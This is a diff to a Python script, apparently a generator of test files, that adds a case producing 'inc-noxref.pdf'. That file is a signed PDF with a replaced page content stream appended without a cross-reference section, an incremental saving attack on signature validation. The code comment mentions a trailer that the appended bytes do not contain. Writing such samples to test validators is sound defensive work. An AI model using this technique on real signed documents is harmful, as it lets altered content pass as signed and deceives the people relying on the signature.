@@ -17,6 +17,7 @@ Writes, next to this script:
                          dictionary holding a new text field (not only signatures)
   inc-font.pdf         + the page font redefined (modified)
   inc-stamp.pdf        + the signed field's appearance and place replaced (modified)
+  inc-noxref.pdf       + the page content redefined with no xref section (modified)
 """
 import os
 import re
@@ -120,6 +121,14 @@ update({
     sigfield.objgen[0]: dict_with(sigfield, AP=b"<< /N %d 0 R >>" % n, Rect=b"[180 700 320 718]"),
     n: b"<< /Type /XObject /Subtype /Form /BBox [0 0 140 18] /Length %d >>\nstream\n" % len(stamp) + stamp + b"\nendstream",
 }, "inc-stamp.pdf")
+
+# 7. Incremental saving attack without a cross-reference section: a new
+#    content stream for the page and a trailer, but no xref and no new
+#    startxref; viewers that repair files pick the objects up.
+raw = bytearray(base)
+raw += (b"%d 0 obj\n<< /Length %d >>\nstream\n" % (page.Contents.objgen[0], len(content)) + content +
+        b"\nendstream\nendobj\n%%EOF\n")
+open(os.path.join(here, "inc-noxref.pdf"), "wb").write(raw)
 
 # 5. A reference the signed page already made (to an object number that
 #    did not exist then) now leads to a new content stream: no signed object
